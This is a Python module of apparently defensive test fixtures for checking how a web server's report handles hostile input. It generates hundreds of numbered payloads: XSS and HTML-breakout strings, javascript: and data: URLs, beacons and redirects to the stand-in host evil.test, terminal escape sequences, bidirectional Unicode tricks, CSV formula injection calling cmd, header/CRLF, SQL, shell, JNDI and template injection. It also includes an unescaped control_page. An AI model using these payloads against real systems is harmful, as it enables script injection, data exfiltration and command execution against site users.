"""Texts that a stranger may send to a web server to harm whoever reads its report.

ATTACKS holds them, each different from all others: what it attacks (kind), where it works
when it is written as it is (place, see control_page) and the text, as bytes. A text that is
to run or fetch something does so with a number of its own, by which a watcher knows it:
console.log(7000012) or http://evil.test/7000012.
"""
import collections

Attack = collections.namedtuple("Attack", "number kind place text")

FIRST_NUMBER = 7000000

# kind, place, texts. RUN stands for a call with the attack's number, EVIL for an address of
# the attacker's without its scheme, NUM for the number, RETURN and LINEFEED for these.
_TABLE = [
    # ---- Elements -------------------------------------------------------------------------
    ("script", "text", """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt\f>RUN</sCrIpT\f>
<script/x>RUN</script/y>
<script type=module>RUN</script>
<script src=EVIL></script>
<script src="EVIL"></script>
<script src=data:text/javascript,RUN></script>
<script\t>RUN</script\t>
<script async defer src=\\\\evil.test/NUM></script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>/*<!--*/RUN//--></script>
<script><!--\\u2028RUN</script>
<script>setTimeout('RUN')</script>
<script>Function('RUN')()</script>
<script>top.location='http:EVIL'</script>
<script>document.write('<img src=EVIL>')</script>
<script>fetch('http:EVIL')</script>
<script>new Image().src='EVIL'</script>
<script>navigator.sendBeacon('http:EVIL')</script>
<script>import('http:EVIL')</script>
<script>alert(NUM)</script>
<script>prompt(NUM)</script>
<script>document.title=NUM</script>
<script>open('http:EVIL')</script>
<script>new WebSocket('ws:EVIL')</script>
<script>eval(atob`Y29uc29sZS5sb2c`)(NUM)</script>
<script language=JScript>RUN</script>
"""),
    ("event", "text", """
<img src=x onerror=RUN>
<IMG SRC=x OnErRoR=RUN>
<img/src=x/onerror=RUN>
<img\fsrc=x\fonerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`x`;RUN>
<img src=x onerror=&#99;onsole.log(NUM)>
<img src=x onerror=\\u0063onsole.log(NUM)>
<img """ + "\x0b" + """ src=x onerror=RUN>
<image src=x onerror=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x
<p tabindex=0 autofocus onfocus=RUN>x
<details open ontoggle=RUN>
<video><source onerror=RUN></video>
<video src=x onerror=RUN>
<audio src=x onerror=RUN>
<object data=x onerror=RUN>
<link rel=stylesheet href=x onerror=RUN>
<script src=x onerror=RUN></script>
<style onload=RUN></style>
<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=RUN>x
<marquee onstart=RUN>x</marquee>
<iframe onload=RUN></iframe>
<p onclick=RUN>x
<p onmouseover=RUN>x
<p onpointerenter=RUN>x
<a onclick=RUN>x
<input type=image src=x onerror=RUN>
<video autoplay onloadstart=RUN src=x>
"""),
    ("frame", "text", """
<iframe src=http:EVIL></iframe>
<iframe src=EVIL></iframe>
<iframe src=javascript:RUN></iframe>
<iframe src="java&Tab;script:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<frameset><frame src=EVIL></frameset>
<embed src=http:EVIL>
<embed src=javascript:RUN>
<object data=http:EVIL></object>
<object data=javascript:RUN></object>
<object type=text/html data=EVIL></object>
<portal src=http:EVIL></portal>
<applet code=x codebase=EVIL></applet>
"""),
    ("fetch", "text", """
<img src=EVIL>
<img src=http:EVIL>
<img srcset="EVIL 1x">
<picture><source srcset=EVIL><img src=x></picture>
<table background=EVIL><tr><td>
<td background=EVIL>
<body background=EVIL>
<link rel=stylesheet href=EVIL>
<link rel=icon href=EVIL>
<link rel=preload as=image href=EVIL>
<link rel=prefetch href=EVIL>
<link rel=modulepreload href=EVIL>
<link rel=manifest href=EVIL>
<link rel=dns-prefetch href=EVIL>
<input type=image src=EVIL>
<video poster=EVIL></video>
<audio src=EVIL autoplay></audio>
<video><track default src=EVIL></video>
<svg><image href=EVIL /></svg>
<svg><image xlink:href=EVIL /></svg>
<svg><use href=EVIL#x /></svg>
<svg><feImage href=EVIL /></svg>
<bgsound src=EVIL>
<html manifest=EVIL>
<img src='EVIL?
<img src="EVIL?
"""),
    ("steer", "text", """
<meta http-equiv=refresh content=0;url=http:EVIL>
<meta http-equiv=refresh content="0;url=EVIL">
<META HTTP-EQUIV=Refresh CONTENT="0; URL='EVIL'">
<meta http-equiv=set-cookie content=a=NUM>
<meta http-equiv=content-type content="text/html;charset=utf-7">
<meta charset=utf-16be>
<meta name=referrer content=unsafe-url><img src=EVIL>
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=EVIL/>
<base target=_blank href=http:EVIL/>
<form action=EVIL><input type=submit></form>
<form action=javascript:RUN><input type=submit></form>
<form id=f></form><button form=f formaction=javascript:RUN>x
<form action=EVIL><input name=password value=NUM><button>
<isindex action=javascript:RUN type=image>
<dialog open>NUM</dialog>
<a href=http:EVIL target=_top>x</a>
<a ping=http:EVIL href=#>x</a>
"""),
    ("style", "text", """
<style>@import url(http:EVIL);</style>
<style>@import'EVIL'</style>
<style>body{background:url(EVIL)}</style>
<p style=background:url(EVIL)>x
<p style="background:u\\72l(EVIL)">x
<p style="background:url(EVIL)" class=owned>x
<p style=list-style:url(EVIL);display:list-item>x
<p style=cursor:url(EVIL),auto>x
<p style="background:image-set('EVIL' 1x)">x
<p style="width:expression(RUN)">x
<p style="behavior:url(EVIL)">x
<p style="-moz-binding:url(EVIL#x)">x
<style>p{width:expression(RUN)}</style>
<style>@font-face{font-family:f;src:url(EVIL)}body{font-family:f}</style>
<style>body{display:none}NUM</style>
<style>*{content:url(EVIL)}</style>
<style>a[href^=h]{background:url(EVIL)}</style><a href=h>x</a>
"""),
    ("foreign", "text", """
<svg><script>RUN</script></svg>
<svg><script xlink:href=data:,RUN /></svg>
<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x to=1>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<math><mi//xlink:href="data:x,RUN">
<math href=javascript:RUN>x</math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<svg><![CDATA[><img src=x onerror=RUN>]]>
<?xml-stylesheet href="javascript:RUN"?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http:EVIL">]>
<!DOCTYPE html SYSTEM "http:EVIL">
"""),
    ("mutation", "text", """
<template><script>RUN</script></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<style><p title="</style><img src=x onerror=RUN>">
<plaintext>NUM
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<select><style></select><img src=x onerror=RUN>
<table><td><img src=x onerror=RUN></table>
<p><table><p onclick=1><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<![if IE]><script>RUN</script><![endif]>
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<%<img src=x onerror=RUN>%>
</ x><img src=x onerror=RUN>
<x contenteditable onblur=RUN>NUM
<a id=document name=title>NUM</a>
<input name=getElementById value=NUM>
<slot name=NUM><img src=x onerror=RUN></slot>
{{constructor.constructor('RUN')()}}
${RUN}
#{RUN}
<x v-html=RUN>
"""),
    # ---- Ways out of where a text stands -----------------------------------------------------
    ("breakout", "double", """
"><script>RUN</script>
"><img src=x onerror=RUN>
" autofocus onfocus=RUN x="
" style=animation-name:k onanimationstart=RUN "
"onclick=RUN//
"/><svg onload=RUN>
&quot;><img src=x onerror=RUN>
\\"><img src=x onerror=RUN>
\\x22><img src=x onerror=RUN>
%22><img src=x onerror=RUN>
">NUM</a></td></tr></table></details></section></main><h1>
"""),
    ("breakout", "single", """
'><script>RUN</script>
' autofocus onfocus=RUN x='
'onclick='RUN
\\'><img src=x onerror=RUN>
&#39;><img src=x onerror=RUN>
"""),
    ("breakout", "bare", """
x onclick=RUN
x\tonclick=RUN
x\fautofocus\fonfocus=RUN
x/onclick=RUN
><script>RUN</script>
`onclick=RUN
"""),
    ("breakout", "title", """
</title><script>RUN</script>
</TITLE\f><img src=x onerror=RUN>
</title/><svg onload=RUN>
</title><meta http-equiv=refresh content=0;url=http:EVIL>
"""),
    ("breakout", "style", """
</style><script>RUN</script>
</STYLE ><img src=x onerror=RUN>
}*{background:url(EVIL)}
*/@import'EVIL';/*
"""),
    ("breakout", "script", """
</script><script>RUN</script>
</SCRIPT\t><img src=x onerror=RUN>
";RUN;//
"+RUN+"
\\";RUN;//
<!--<script>"+RUN+"
"-RUN-"
"}];RUN;[{"
"""),
    ("breakout", "comment", """
--><script>RUN</script>
--!><img src=x onerror=RUN>
><script>RUN</script><!-- 
-><img src=x onerror=RUN>
<!--><script>RUN</script>
<!--->RUN<script>RUN</script>
<!-- NUM
"""),
    ("breakout", "textarea", """
</textarea><script>RUN</script>
</textarea ><img src=x onerror=RUN>
"""),
    ("breakout", "text", """
</td></tr></table><h1>NUM</h1>
</bdi></a></td><script>RUN</script>
</details></main></body></html><script>RUN</script>
<td></td></tr><tr><td>999,999,NUM
</div></section><section id=requests>NUM
<!-- NUM <!-- -- > <! --->
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script>RUN</script>
&lt<script>RUN</script>
&amp;lt;script&amp;gt;NUM
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN%253C%252Fscript%253E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
<i>\\x1B</i>NUM
&#0;&#x0;&#xD800;&#1114112;&#NUM;
<a href="http://ok.example/">NUM</a>
"""),
    # ---- Addresses -----------------------------------------------------------------------------
    ("address", "link", """
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
\x01javascript:RUN
java\tscript:RUN
javaLINEFEEDscript:RUN
javaRETURNLINEFEEDscript:RUN
javascript\t:RUN
javascript:/**/RUN
javascript://%0aRUN
javascript://ok.example/%0aRUN
javascript:%63onsole.log(NUM)
javascript:void(RUN)
javascript&colon;RUN
javascript&#58;RUN
&#106;avascript:RUN
&#x6a&#x61vascript:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
java&#10;script&#9;:RUN
javas%0acript:RUN
%6aavascript:RUN
vbscript:msgbox(NUM)
VBScript:msgbox(NUM)
livescript:RUN
mocha:RUN
view-source:javascript:RUN
feed:javascript:RUN
jar:http:EVIL!/x
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5OVU08L3NjcmlwdD4NUM
DATA:text/html;charset=utf-8,<img src=x onerror=RUN>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
data:,NUM
blob:http:EVIL
filesystem:http:EVIL
file:///etc/passwd#NUM
file://evil.test/NUM
ftp://evil.test/NUM
mailto:x@evil.test?subject=NUM
tel:NUM
intent://evil.test/NUM#Intent;end
ms-word:ofe|u|http:EVIL
about:blank#NUM
EVIL
/EVIL
///evil.test/NUM
/\\evil.test/NUM
\\\\evil.test/NUM
/\t/evil.test/NUM
http:EVIL
http:evil.test/NUM
http:/evil.test/NUM
http:\\\\evil.test\\NUM
hTTp://evil.test/NUM
@evil.test/NUM
.evil.test/NUM
:80@evil.test/NUM
http://www.example.com@evil.test/NUM
http://www.example.com:pw@evil.test/NUM
http://www.example.com%2f@evil.test/NUM
http://evil.test\\@www.example.com/NUM
http://evil.test#@www.example.com/NUM
http://evil.test?@www.example.com/NUM
http://[::1]/NUM
http://0x7f000001/NUM
http://evil。test/NUM
http://еvil.test/NUM
https://"onclick=RUN
https://x/'onclick='RUN
https://x/><script>RUN</script>
https://x/`onclick=RUN
https:///NUM
http://?NUM
http://#NUM
"""),
]

# Texts that are made of bytes, or harm others than browsers; their numbers are only names.
_BYTES = [
    ("control", [bytes([code]) + b"control%02X" % code for code in range(1, 32)] + [
        b"delete\x7f", b"before\0behind", b"<scr\0ipt>RUN</script>", b"bell\x07\x07\x07", b"back\x08\x08\x08\x08space"]),
    ("terminal", [
        b"\x1b[31mred", b"\x1b[2J\x1b[Hclear", b"\x1b[8mhidden\x1b[28m", b"\x1b[1A\x1b[2Kup a line", b"\x1b[6n", b"\x1b[c",
        b"\x1b[?1049h", b"\x1b[?1000h", b"\x1b[20h\x1b[2l", b"\x1b[200~paste\x1b[201~", b"\x1b[21t", b"\x1b[8;1;1t",
        b"\x1b]0;owned title\x07", b"\x1b]2;owned title\x1b\\", b"\x1b]8;;http://evil.test/link\x1b\\text\x1b]8;;\x1b\\",
        b"\x1b]52;c;b3duZWQ=\x07", b"\x1b]4;1;?\x07", b"\x1b]10;#fff\x07", b"\x1b]1337;File=inline=1:AAAA\x07", b"\x1b]777;notify;owned;x\x07",
        b"\x1b]9;owned\x07", b"\x1bP$q\"p\x1b\\", b"\x1bP+q544e\x1b\\", b"\x1bPq#0;2;0;0;0\x1b\\", b"\x1b_Gf=24;AAAA\x1b\\",
        b"\x1b^private\x1b\\", b"\x1bXstart of string\x1b\\", b"\x1bc", b"\x1b#8", b"\x1b(0lqqk\x1b(B", b"\x1b%@", b"\x1bN\x1bO",
        b"\x9b31meight bits", b"\x9d0;eight bits\x9c", b"\x90q eight bits\x9c", b"\x85next line", b"\x84index", b"\x8dreverse",
        "\u009b31mC1".encode(), "\u009d52;c;b3duZWQ=\u009c".encode(), "\u0090q\u009c".encode(), "\u0085next".encode(),
        b"\x0e\x0fshift", b"\x05enquiry", b"\x1a\x18cancel", b"carriage\rreturn", b"line\nfeed", b"\x0b\x0cform feed"]),
    ("direction", [text.encode() for text in (
        "\u202egnp.exe", "\u202dleft", "\u202aembed\u202c", "\u202bembed\u202c", "\u2066isolate", "\u2067isolate", "\u2068first strong",
        "\u2069pop", "\u200emark", "\u200fmark", "\u061cmark", "abc\u202e/* } \u2066if (admin)\u2069 \u2066 begin */", "אבג/def/123",
        "\u202e" * 200 + "deep")]),
    ("invisible", [text.encode() for text in (
        "zero\u200bwidth", "zero\u200cnon\u200djoiner", "\u2060word", "\ufeffmark first", "in\ufeffside", "soft\u00adhyphen", "no\u00a0break",
        "\u3000wide", "\u2003em", "\u2028line", "\u2029paragraph", "\u115f\u1160filler", "\u3164hangul", "\uffa0half", "\u2800braille",
        "\u180emongolian", "\u034fjoiner", "variant\ufe0f", "variant\U000e0100", "\U000e0041\U000e0042tags", "\U0001d173music",
        "\ufff9note\ufffa\ufffb", "\ue000private", "\U000f0000private", "\ufffdreplaced", "\u17b4khmer", "\u206a\u206fdeprecated",
        "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "a" + "\u0301" * 500, "Z\u0351\u0327" * 60)]),
    ("encoding", [
        b"\xc0\xbcscript\xc0\xbeoverlong", b"\xe0\x80\xbcscript\xe0\x80\xbe", b"\xf0\x80\x80\xbcscript\xf0\x80\x80\xbe",
        b"\xf8\x80\x80\x80\xbcscript", b"\xfc\x80\x80\x80\x80\xbc", b"\xc1\xbf\xc0\x80nul", b"\xc0\xae\xc0\xae\xc0\xaf", b"\xed\xa0\x80high",
        b"\xed\xb0\x80low", b"\xed\xa0\xbd\xed\xb8\x80pair", b"\xf4\x90\x80\x80beyond", b"\xf5\x80\x80\x80beyond", b"\xfe\xfe", b"a\xffb",
        b"\xff\xfe<\0s\0", b"\xfe\xff\0<", b"\xef\xbb\xbfmark", b"\x80alone", b"\xbf\xbf\xbf", b"cut \xe2\x82", b"cut \xf0\x9f\x98",
        b"\xe2\"quote eaten", b"\xc3'", b"\xc2<", b"\xf0\x9f<b>", b"\x81\x22", b"\xe9\xe8\xe0latin", b"\x8f<\x90",
        b"+ADw-script+AD4-console.log(NUM)+ADw-/script+AD4-", b"+/v8-+ADw-b+AD4-", b"+/v9 utf-7", b"\x1b$B<script>\x1b(B", b"\x1b(Jx", b"~{!!~}",
        "\uff1cscript\uff1e".encode(), "\u2039script\u203a".encode(), "\u02bconerror=x\u02ba".encode(), "\u0130\u0131\u017f\u212a".encode()]),
    ("formula", [text.encode() for text in (
        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.test/\"&A1)", "=IMPORTXML(CONCAT(\"http://evil.test/\",A1),\"//a\")", "=WEBSERVICE(A1)",
        "=IMAGE(\"http://evil.test/\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)",
        "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+2", "\r=1+2", "\n=1+2", "x\n=1+3", "x\t=1+3", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
        "x,=1+1", "x;=1+1", "x|=1+1", "x\"=1+1", "\",=1+1", "\"=1+1", "\"\"=1+1", "x\",\"=1+1", "x\"\r\n=1+1", "';=1+1", "'=1+1", "''=1+1",
        " =1+1", "  =1+2", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "%0A-3+3", "%3D1+1", "|=1+5", ";=1+5", ",=1+5", "=,=,=", ";;;-1", "+-+-1",
        "=\"a\"&\"b\"", "\uff1d\uff0b", "x,\uff0b1", "\"", "\"\"", "\"\"\"", ",", ",,,,", "a,b", "a\"b", "a;b", "a|b", "a'b", " a", "b ",
        "sep=;", "ID;PWXL", "TRUE", "1E5", "00123", "1/2", "[x", "{=1}")]),
    ("json", [text.encode() for text in (
        "\"}", "\"},{\"count\": 1", "\",\"admin\":true,\"x\":\"", "\\\"", "\\\\\"", "\\", "\\u0022", "\\ud800", "\\x", "x\\", "\u2028);//", "\u2029);//",
        "*/}//", "__proto__", "constructor", "</script><!--", "{\"$ref\":\"#\"}", "[[[[[[[[", "NaN", "null", "1e999", "\"\n\"", "/*", "//x")]),
    ("head", [text.encode() for text in (
        "x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.test/", "x\r\n\r\n<script>RUN</script>", "x%0d%0aSet-Cookie:%20a=b", "x\r\rX: y",
        "x\u560d\u560aSet-Cookie: c=d", "x\n Status: 302", "\r\nContent-Type: text/html\r\n\r\n<b>", "x\"; filename=\"evil.html", "x\\r\\nX: y",
        "../../etc/passwd", "x;y=z,\"w", "192.0.2.66 - - [05/Mar/2000:00:00:00 +0000] \\\"GET /forged", "x\" 404 1 \"http://forged.test/\" \"forged")]),
    ("long", [
        b"w" * 2000, b"<b>" * 600, b"&" * 2000, b"\"" * 2000, b"'" * 2000, b"\x80" * 2000, "\u202e".encode() * 600, "\U0001f600".encode() * 500,
        b"long" * 2000, b"/" * 2000, b"%" * 2000, b"=" * 2000, b"\\" * 2000, b" " * 500 + b"x", b"<!--" * 400, b"a" * 88 + b"<b>", b"a" * 58 + b"&lt;" * 20,
        b"b" * 89 + "\u202e".encode(), b"c" * 58 + "\U0001f600".encode() + b"c" * 60, b"q" * 2046 + "\U0001f600".encode(),
        b"<i>" + b"d" * 90 + b"</i>", b"@" + b"e" * 3000, b"-" * 89, b"1" * 400]),
    ("injection", [text.encode() for text in (
        "' OR 1=1 --", "'; DROP TABLE logs; --", "1 UNION SELECT 2", "$(touch owned)", "`touch owned`", "; touch owned", "| touch owned", "&& touch owned",
        "%s%s%s%n", "%n%n%n", "%1$s", "%99999999d", "${jndi:ldap://evil.test/x}", "() { :;}; touch owned", "{{7*7}}", "<%= 7*7 %>", "<?php owned() ?>",
        "<!--#exec cmd=\"touch owned\" -->", "<!--#include file=\"x\" -->", "<esi:include src=\"http://evil.test/\"/>", "O:8:\"stdClass\":0:{}",
        "*)(uid=*))(|(uid=*", "..%2f..%2fetc%2fpasswd", "[link](javascript:x)", "![x](http://evil.test/)", "**bold** `code`", "\\input{x}", "~/.ssh")]),
    ("encoded", [
        b"caf%C3%A9", b"%E2%80%AEgnp.exe", b"%E2%81%A6isolate", b"zero%E2%80%8Bwidth", b"%C2%9B31mred", b"%C2%85next%C2%A0", b"%C2%ADsoft",
        b"%EF%BB%BFmark", b"%F3%A0%81%81tag", b"%C0%BCscript%C0%BE", b"%E0%80%BCscript%E0%80%BE", b"%ED%A0%BD%ED%B8%80pair", b"%C3", b"%C3%",
        b"%C3<b>%A9", b"\xc3%A9", b"%C3\xa9", b"%C3%C3%A9%A9", b"%25C3%25A9", b"%EF%BC%9Cscript%EF%BC%9E", b"%E2%80%A8line", b"%c3%a9%00%C3%A9",
        b"evil%EF%BC%8F%2E%2E%2F%E2%88%95", b"%E6%97%A5%E6%9C%AC" * 60, b"%CC%B8struck", b"%F4%90%80%80", b"%D7%A9%D7%9C/%D7%95%D7%9D/123"]),
]


def _attacks():
    made = []

    def add(kind, place, text):
        number = FIRST_NUMBER + len(made)
        text = text.replace(b"RUN", b"console.log(%d)" % number).replace(b"EVIL", b"//evil.test/%d" % number)
        made.append(Attack(number, kind, place, text.replace(b"NUM", b"%d" % number)))

    for kind, place, texts in _TABLE:
        for text in texts.strip("\n").split("\n"):
            add(kind, place, text.replace("RETURN", "\r").replace("LINEFEED", "\n").encode())
    for kind, texts in _BYTES:
        for text in texts:
            add(kind, None, text)
    assert len({attack.text.lower() for attack in made}) == len(made), "two attacks are the same"
    return made


ATTACKS = _attacks()


# ---- A page that protects itself from nothing ------------------------------------------------

_PLACES = {
    "text": b"<table><tr><td>%s</td></tr></table>",
    "double": b'<a title="%s">x</a>',
    "single": b"<a title='%s'>x</a>",
    "bare": b"<a title=%s>x</a>",
    "title": b"<title>%s</title>",
    "style": b"<style>/* x */ p { color: red; %s } /* x */</style>",
    "script": b'<script>var x = ["%s"];</script>',
    "comment": b"<!--%s -->",
    "textarea": b"<textarea>%s</textarea>",
    "link": b'<a href="%s">x</a>',
}


def control_page(attack):
    """A page with the attack as it is, in the place that it is meant for."""
    return b"<!DOCTYPE html><meta charset=utf-8>" + _PLACES[attack.place or "text"] % attack.text
